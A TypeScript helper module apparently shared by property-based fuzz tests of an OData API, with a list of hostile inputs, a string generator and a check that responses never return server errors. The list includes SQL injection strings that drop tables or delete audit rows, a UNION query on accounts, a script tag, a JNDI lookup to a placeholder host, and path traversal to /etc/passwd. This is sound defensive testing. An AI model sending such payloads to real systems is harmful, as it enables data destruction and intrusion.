/** What the property tests of the API share: callers, run count, hostile strings and the outcome check. Not a test file itself. */
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { type TestApp } from '../../support/harness.js';
import { assertODataError, type Res } from './helpers.js';

export const CALLERS = ['jen', 'ann', 'admin'] as const;
export const RUNS = Number(process.env.FUZZ_RUNS ?? 400);
export const INJECTIONS = [
  "' or 1=1 --",
  "'; DROP TABLE requests; --",
  "' UNION SELECT * FROM accounts --",
  '1; DELETE FROM audit',
  '") or ("1"="1',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '\u0000',
  '%00',
  '%',
  '%zz',
  '\\',
  '../../etc/passwd',
  '\r\nX-Injected: 1',
  '💥🔥',
  'Ω≈ç√∫',
  '\uFEFF',
  'null',
  'undefined',
  'NaN',
  '[]',
  '{}',
];

/** Values encodeURIComponent can encode (no lone surrogates). */
export function encodable(s: string): boolean {
  try {
    encodeURIComponent(s);
    return true;
  } catch {
    return false;
  }
}

export const text = (maxLength = 30) =>
  fc.oneof(
    fc.string({ maxLength }),
    fc.string({ unit: 'binary', maxLength }),
    fc.string({ unit: 'grapheme', maxLength }),
    fc.constantFrom(...INJECTIONS),
  );

export interface Ctx {
  t: TestApp;
  roleIds: string[];
}

export function assertOutcome(res: Res, allowed: readonly number[], label: string): void {
  assert.ok(res.statusCode < 500, `${label}: server error ${res.statusCode} ${res.body.slice(0, 300)}`);
  assert.ok(allowed.includes(res.statusCode), `${label}: status ${res.statusCode} not in ${allowed.join('/')}: ${res.body.slice(0, 300)}`);
  if (res.statusCode >= 400) assertODataError(res, undefined, label);
}
